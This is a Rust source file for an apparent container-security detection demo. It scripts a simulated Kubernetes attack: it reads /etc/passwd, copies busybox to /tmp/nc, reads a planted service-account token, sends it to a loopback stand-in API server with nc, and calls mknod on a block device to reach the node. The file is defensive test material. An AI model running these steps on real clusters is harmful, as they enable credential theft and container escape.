//! What the demo's container does: a little ordinary work, then an attack in three steps, harmless each.

/// How rules know the API server that the attack asks: nobody listens there, and it is in the container's own network.
pub(crate) const API_SERVER: &str = "kubernetes.default.svc.cluster.local=127.10.96.1";

/// Each program by its full path, so that each is a program of its own.
pub(crate) const SCRIPT: [&str; 14] = [
    "/bin/id",
    "/bin/uname -a",
    "/bin/cat /etc/passwd",
    "/bin/ls /",
    "/bin/nc -w 1 127.0.0.1 9 || true",
    "/bin/echo secret | /bin/base64 | /bin/rev",
    "/bin/sh -c '/bin/sleep 1'",
    // What a kubelet mounts into a pod.
    "/bin/mkdir -p /run/secrets/kubernetes.io/serviceaccount",
    "echo not-a-token > /run/secrets/kubernetes.io/serviceaccount/token",
    // 1. A tool is brought along.
    "/bin/sh -c '/bin/cp /bin/busybox /tmp/nc && /bin/sleep 1",
    // 2. The pod's token is read, and the API server asked with it, by that tool.
    "token=$(/bin/cat /run/secrets/kubernetes.io/serviceaccount/token)",
    "/bin/echo \"GET /api/v1/secrets Authorization: Bearer $token\" | /tmp/nc -w 1 127.10.96.1 6443 || true",
    "/bin/sleep 1",
    // 3. The node is reached for: a device file that leads to a disk.
    "/bin/mknod /disk b 7 0 || true'",
];

/// Programs of the image that [`SCRIPT`] starts.
pub(crate) const PROGRAMS: [&str; 13] = [
    "/bin/id",
    "/bin/uname",
    "/bin/cat",
    "/bin/mknod",
    "/bin/ls",
    "/bin/nc",
    "/bin/echo",
    "/bin/base64",
    "/bin/rev",
    "/bin/sh",
    "/bin/sleep",
    "/bin/mkdir",
    "/bin/cp",
];

/// Steps that the incident must know: what was brought along, the token, the way to the node.
pub(crate) const STEPS: [&str; 3] =
    ["a program or command was run", "passwords, tokens or keys were read", "a way out of the container"];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_program_is_in_the_script() {
        let script = SCRIPT.join(" ");
        for program in PROGRAMS {
            assert!(script.contains(program), "{program}");
        }
    }
}
